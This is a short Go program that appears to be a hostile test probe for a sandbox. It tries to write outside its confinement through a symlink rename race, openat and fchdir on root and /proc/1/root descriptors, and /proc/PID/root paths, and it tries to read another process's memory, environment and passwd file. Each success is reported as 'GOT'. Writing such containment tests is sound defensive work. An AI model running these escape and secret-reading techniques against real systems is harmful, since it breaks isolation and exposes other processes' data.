// Tries to get out by files that change while they are looked at, and by the newer calls on files. Says GOT for what it got.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"syscall"
	"time"
)

func main() {
	outside := os.Getenv("OUTSIDE")
	os.Mkdir("swap", 0o755)
	os.Symlink(outside, "swap-link")
	stop := time.Now().Add(500 * time.Millisecond)
	go func() { // a folder and a link to the outside change places
		for time.Now().Before(stop) {
			os.Rename("swap", "swap-aside")
			os.Rename("swap-link", "swap")
			os.Rename("swap", "swap-link")
			os.Rename("swap-aside", "swap")
		}
	}()
	for time.Now().Before(stop) {
		os.WriteFile("swap/raced", []byte("hostile"), 0o644)
	}
	if _, err := os.Stat(filepath.Join(outside, "raced")); err == nil {
		fmt.Println("GOT a file outside, by a race")
	}
	for _, dir := range []string{"/", outside, "/proc/self/root", "/proc/1/root"} {
		fd, err := syscall.Open(dir, syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
		if err != nil {
			continue
		}
		if w, err := syscall.Openat(fd, "gk-run-hostile", syscall.O_CREAT|syscall.O_WRONLY, 0o644); err == nil {
			fmt.Println("GOT a file in", dir)
			syscall.Close(w)
		}
		if err := syscall.Fchdir(fd); err == nil {
			if err := os.WriteFile("../gk-run-hostile", nil, 0o644); err == nil {
				fmt.Println("GOT a file above", dir)
			}
		}
	}
	for pid := 1; pid < 64; pid++ {
		for _, name := range []string{"root", "cwd"} {
			if f, err := os.OpenFile(fmt.Sprintf("/proc/%d/%s%s/canary", pid, name, outside), os.O_WRONLY, 0); err == nil {
				fmt.Println("GOT", f.Name())
			}
		}
	}
	for _, name := range []string{"mem", "environ", "root/etc/passwd"} {
		if text, err := os.ReadFile("/proc/" + os.Getenv("PROCESS") + "/" + name); err == nil && len(text) > 0 {
			fmt.Println("GOT", name, "of a process outside")
		}
	}
	fmt.Println("DONE")
}
